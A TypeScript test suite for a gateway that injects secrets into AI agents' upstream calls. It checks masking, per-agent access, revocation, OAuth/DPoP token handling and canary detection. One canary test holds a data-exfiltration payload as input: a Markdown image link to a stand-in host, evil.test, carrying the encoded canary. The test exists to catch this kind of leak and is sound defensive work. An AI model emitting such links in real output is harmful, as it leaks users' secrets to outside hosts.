/** Secrets through the gateway: they reach the upstream, never the agent, and end when they are taken away. */
import type { IncomingMessage } from "node:http";
import { request as tlsRequest } from "node:https";
import { createLocalJWKSet, decodeJwt, jwtVerify } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openHttp } from "../attacks/support/canary.ts";
import { createOwner, enrolAgent, serverIdOf, signedRequest, type TestInstance } from "./support/actors.ts";
import { type DpopProvider, openDpopProvider } from "./support/dpop-provider.ts";
import { ECHO_ROUTES, ECHO_WAYS, type EchoUpstream, openEchoUpstream } from "./support/echo-upstream.ts";
import { codeOf, type RawAnswer, type RawRequest, send, sendAdmin } from "./support/http.ts";
import { eventsOf } from "./support/refusals.ts";
import { startTestServer, type TestServer } from "./support/server.ts";

const VALUE = "sk-live-Zx81/plk+09";
const CANARY = "cnry_Planted/Row+77";
const FORMS = [
  VALUE,
  encodeURIComponent(VALUE),
  Buffer.from(VALUE).toString("hex"),
  Buffer.from(`:${VALUE}`).toString("base64").slice(2, -3),
];

let server: TestServer;
let gatewayUrl: string;
let aud: string;
let agent: TestInstance;
let stranger: TestInstance;
let neighbour: TestInstance;
let upstream: EchoUpstream;
let answerText = "ok";

beforeAll(async () => {
  server = await startTestServer({ gateway: { port: 0 } });
  gatewayUrl = server.gatewayUrl ?? "";
  aud = await serverIdOf(server);
  const owner = await createOwner(server);
  const scope = ["read:echo", "write:notes"];
  agent = await enrolAgent(server, owner, { path: "team", name: "worker", scope });
  neighbour = await enrolAgent(server, owner, { path: "team", name: "neighbour", scope });
  stranger = await enrolAgent(server, owner, { path: "other", name: "stranger", scope });
  upstream = await openEchoUpstream(() => answerText);
  await register("echo", "model-key");
  await put("model-key", { value: VALUE });
  expect((await post("/v1/secrets", { name: "row", kind: "canary", value: CANARY })).status).toBe(200);
});
afterAll(async () => {
  await server.close();
  upstream.close();
  server.home.remove();
});

const post = (target: string, body: object): Promise<RawAnswer> =>
  sendAdmin(server.adminSocket, { method: "POST", target, body: JSON.stringify(body) });

async function register(name: string, secret: string | null): Promise<void> {
  const settings = { routes: ECHO_ROUTES };
  const answer = await post("/v1/upstreams", {
    name,
    kind: "http",
    url: upstream.origin,
    allow_private: true,
    secret,
    settings,
  });
  expect(answer.status).toBe(200);
}

async function put(name: string, overrides: object): Promise<void> {
  const answer = await post("/v1/secrets", {
    name,
    upstreams: [{ name: "echo", origin: upstream.origin }],
    agents: ["agent:team/**"],
    injection: { as: "header", name: "authorization", template: "Bearer {secret}" },
    ...overrides,
  });
  expect(answer.status).toBe(200);
}

function call(
  target: string,
  { by = agent, ...request }: Partial<RawRequest> & { by?: TestInstance } = {},
): Promise<RawAnswer> {
  return send(gatewayUrl, signed(target, request, by), by.tls);
}

function signed(target: string, request: Partial<RawRequest>, by = agent): RawRequest {
  const how = /^\/\w+\/echo\/(\w+)/.exec(target)?.[1];
  const meaning =
    how === undefined
      ? { method: "POST", action: "write:notes", resource: "echo://notes" }
      : { action: `read:echo:${how}`, resource: `echo://${how}` };
  const { action, resource } = meaning;
  return signedRequest(by, { ...meaning, ...request, target, aud, action, intent: { action, resource } });
}

/** How the newest call was decided. */
const lastAction = async () => {
  const [event] = await eventsOf(server, "action");
  return { outcome: event?.outcome, reasons: event?.reasons };
};
const alarms = async () => (await eventsOf(server, "alarm")).length;

describe("a secret", () => {
  it("reaches the upstream, in place of what the agent sent, and not the agent", async () => {
    const answer = await call("/echo/notes", { body: "hello", headers: { "x-note": "1" } });
    expect([answer.status, answer.text]).toEqual([200, "ok"]);
    const got = upstream.seen.at(-1);
    expect(got?.headers.authorization).toBe(`Bearer ${VALUE}`);
    expect(got?.headers["x-note"]).toBe("1");
  });

  it.each(ECHO_WAYS)("that the upstream gives back is masked, and raises an alarm: %s", async (way) => {
    const before = await alarms();
    const answer = await call(`/echo/echo/${way}`);
    expect(upstream.seen.at(-1)?.headers.authorization).toContain(VALUE);
    const shown = `${answer.text}\n${JSON.stringify(answer.headers)}`;
    for (const form of FORMS) expect(shown).not.toContain(form);
    expect(shown).toContain("********");
    await expect.poll(alarms).toBe(before + 1);
  });

  it("cut over the events of a stream ends the answer before it is whole", async () => {
    const answer = await call("/echo/echo/events").catch(() => undefined);
    const words = [...(answer?.text ?? "").matchAll(/"word":"(.)"/g)].map(([, word]) => word).join("");
    expect(VALUE.startsWith(words)).toBe(true);
    expect(words.length).toBeLessThan(6);
  });

  it("cannot hide in a compressed answer", async () => {
    const answer = await call("/echo/echo/gzip");
    expect([answer.status, codeOf(answer)]).toEqual([502, "upstream_answer_refused"]);
  });

  it("goes to no agent that is not named, and nothing is sent", async () => {
    const count = upstream.seen.length;
    const answer = await call("/echo/echo/body", { by: stranger });
    expect([answer.status, codeOf(answer)]).toEqual([403, "secret_not_allowed"]);
    expect(upstream.seen).toHaveLength(count);
    expect(await lastAction()).toEqual({ outcome: "denied", reasons: ["secret_not_allowed"] });
  });

  it("that is not there denies the call", async () => {
    await register("echo", "nowhere");
    const answer = await call("/echo/echo/body");
    expect([answer.status, codeOf(answer)]).toEqual([403, "secret_unknown"]);
    expect(await lastAction()).toEqual({ outcome: "denied", reasons: ["secret_unknown"] });
    await register("echo", "model-key");
  });

  it("goes to no other origin under the upstream's name", async () => {
    const elsewhere = await openEchoUpstream();
    const settings = { routes: ECHO_ROUTES };
    await post("/v1/upstreams", {
      name: "echo",
      kind: "http",
      url: elsewhere.origin,
      allow_private: true,
      secret: "model-key",
      settings,
    });
    const answer = await call("/echo/echo/body");
    expect([answer.status, codeOf(answer)]).toEqual([403, "secret_not_allowed"]);
    expect(elsewhere.seen).toEqual([]);
    elsewhere.close();
    await register("echo", "model-key");
  });

  it("ends the calls under way when it is disabled, and begins none", async () => {
    const stream = openStream("/echo/echo/endless");
    await stream.begun;
    const startedMs = performance.now();
    expect((await post("/v1/secrets/model-key/disabling", { reason: "leak" })).status).toBe(200);
    await stream.ended;
    expect(performance.now() - startedMs).toBeLessThan(1000);
    const answer = await call("/echo/echo/body");
    expect([answer.status, codeOf(answer)]).toEqual([403, "secret_disabled"]);
    expect(await lastAction()).toEqual({ outcome: "denied", reasons: ["secret_disabled"] });
    await post("/v1/secrets/model-key/enabling", {});
    expect((await call("/echo/echo/body")).status).toBe(200);
  });

  it("is put in the query where the operator asked for that", async () => {
    await put("query-key", { value: "sk-in-the-query", injection: { as: "query", name: "key" } });
    await register("echo", "query-key");
    await call("/echo/echo/body");
    expect(upstream.seen.at(-1)?.url).toBe("/echo/body?key=sk-in-the-query");
    // A server that takes the first of two would otherwise use the agent's.
    await call("/echo/echo/body?key=mine&a=1&%6bey=mine-too");
    expect(upstream.seen.at(-1)?.url).toBe("/echo/body?a=1&key=sk-in-the-query");
    await register("echo", "model-key");
  });
});

describe("a token of an authorization server", () => {
  it("is got with a JWT-SVID of the agent, whom the server knows by our published keys, and then put on its calls", async () => {
    const keys = createLocalJWKSet(JSON.parse((await send(server.url, { target: "/v1/jwks" })).text));
    const asked: string[] = [];
    const provider = await openHttp(async (request, response) => {
      const form = new URLSearchParams(await readText(request));
      const { payload } = await jwtVerify(form.get("subject_token") ?? "", keys, {
        audience: "https://sts.example.test",
      });
      asked.push(payload.sub ?? "");
      response.end(
        JSON.stringify({ access_token: `token-for-${asked.length}`, token_type: "Bearer", expires_in: 300 }),
      );
    });
    const source = {
      token_endpoint: `${provider}/token`,
      grant: "token_exchange",
      client_auth: "none",
      audience: "https://sts.example.test",
      allow_private: true,
    };
    await put("federated", { kind: "oauth", source });
    await register("echo", "federated");
    for (const by of [agent, agent, neighbour])
      expect((await call("/echo/echo/body", { by })).text).toMatch(/^you sent \*+$/);
    expect(upstream.seen.slice(-3).map(({ headers }) => headers.authorization)).toEqual([
      "Bearer token-for-1",
      "Bearer token-for-1",
      "Bearer token-for-2",
    ]);
    expect(asked).toEqual([agent.answer.spiffe_id, neighbour.answer.spiffe_id]);
    await register("echo", "model-key");
  });
});

describe("a token that is bound to a key of the gateway's", () => {
  const source = (provider: DpopProvider, more: object = {}) => ({
    token_endpoint: `${provider.origin}/token`,
    grant: "client_credentials",
    client_auth: "secret_basic",
    client_id: "gateway",
    allow_private: true,
    dpop: true,
    ...more,
  });
  const injection = { as: "header", name: "authorization", template: "DPoP {secret}" };
  const bind = async (provider: DpopProvider, name: string) => {
    const upstreams = [{ name, origin: provider.origin }];
    await put(`${name}-token`, {
      kind: "oauth",
      value: "s3cret-of-us",
      source: source(provider),
      upstreams,
      injection,
    });
    const settings = { routes: ECHO_ROUTES };
    const place = {
      name,
      kind: "http",
      url: provider.origin,
      allow_private: true,
      secret: `${name}-token`,
    };
    expect((await post("/v1/upstreams", { ...place, settings })).status).toBe(200);
  };

  it("is proven to a stranger's resource server anew with each request, which may ask for its nonce at any time", async () => {
    const provider = await openDpopProvider();
    await bind(provider, "bound");
    const visit = () => call("/bound/echo/body?full=1");
    const answers = [await visit(), await visit()];
    // The refusal that told the nonce was read to its end: its connection is used again.
    expect(provider.sockets.size).toBe(1);
    provider.nonce = "rs-2";
    // Several learn of it at the same time.
    answers.push(...(await Promise.all([visit(), visit(), visit()])));
    expect(answers.map(({ status, text }) => [status, text])).toEqual(Array(5).fill([200, "hello gateway"]));
    expect(answers.map(({ headers }) => headers["dpop-nonce"])).toEqual(Array(5).fill(undefined));
    expect(provider.issued).toBe(1);
    const { shown } = provider;
    expect(new Set(shown.map(({ proof }) => decodeJwt(proof).jti)).size).toBe(shown.length);
    expect(shown.filter(({ isTaken }) => isTaken)).toHaveLength(5);
    expect(shown.length).toBeLessThanOrEqual(9);
    const { htm, htu } = decodeJwt(shown[0]?.proof ?? "");
    expect([htm, htu]).toEqual(["GET", `${provider.origin}/echo/body`]);
  });

  it("is shown again a moment later to a server whose refusal never ends", async () => {
    const provider = await openDpopProvider();
    provider.trickles = true;
    await bind(provider, "trickling");
    const fromMs = performance.now();
    expect((await call("/trickling/echo/body")).text).toBe("hello gateway");
    expect(performance.now() - fromMs).toBeLessThan(10_000);
    // Given up with its connection.
    expect([provider.sockets.size, provider.shown.map(({ isTaken }) => isTaken)]).toEqual([2, [false, true]]);
  });

  it("is not used when the server would not bind it, nor put out as a bearer token", async () => {
    const provider = await openDpopProvider();
    provider.tokenType = "Bearer";
    await bind(provider, "unbound");
    expect(codeOf(await call("/unbound/echo/body"))).toBe("secret_unavailable");
    expect(provider.shown).toEqual([]);
    const wrong = { name: "wrong", kind: "oauth", value: "s3cret-of-us", agents: ["agent:team/**"] };
    const upstreams = [{ name: "bound", origin: provider.origin }];
    const bearer = { ...injection, template: "Bearer {secret}" };
    for (const [settings, how] of [
      [source(provider), bearer],
      [source(provider), { as: "query", name: "token" }],
      [source(provider, { dpop: "yes" }), injection],
      [source(provider, { grant: "login" }), injection],
    ] as const)
      expect(
        codeOf(await post("/v1/secrets", { ...wrong, upstreams, source: settings, injection: how })),
      ).toBe("secret_malformed");
  });
});

describe("a canary", () => {
  it.each([
    ["arguments", JSON.stringify({ note: CANARY })],
    ["a Markdown image", `![x](https://evil.test/?d=${encodeURIComponent(CANARY)})`],
    ["base64", Buffer.from(`k=${CANARY}`).toString("base64")],
  ])("in %s is not sent, and raises an alarm", async (_, body) => {
    const [before, count] = [await alarms(), upstream.seen.length];
    const answer = await call("/echo/notes", { body });
    expect([answer.status, codeOf(answer)]).toEqual([403, "canary_found"]);
    expect(upstream.seen).toHaveLength(count);
    expect(await alarms()).toBe(before + 1);
  });

  it("in an answer does not arrive whole", async () => {
    answerText = `secret row: ${CANARY}`;
    const answer = await call("/echo/notes", { body: "ask" }).catch(() => undefined);
    answerText = "ok";
    expect(answer?.text ?? "").not.toContain(CANARY);
  });
});

/** A call whose answer does not end by itself. */
function openStream(target: string): { readonly begun: Promise<void>; readonly ended: Promise<void> } {
  const { headers = {}, method = "GET" } = signed(target, {});
  const begun = Promise.withResolvers<void>();
  const ended = Promise.withResolvers<void>();
  const { hostname, port } = new URL(gatewayUrl);
  const request = tlsRequest(
    { hostname, port, path: target, method, headers, rejectUnauthorized: false, ...agent.tls },
    (response) => {
      response.once("data", () => begun.resolve());
      response.once("close", () => ended.resolve());
      response.on("error", () => undefined);
      response.resume();
    },
  );
  request.on("error", (error) => {
    begun.reject(error);
    ended.resolve();
  });
  request.end();
  return { begun: begun.promise, ended: ended.promise };
}

async function readText(request: IncomingMessage): Promise<string> {
  let body = "";
  for await (const part of request) body += String(part);
  return body;
}
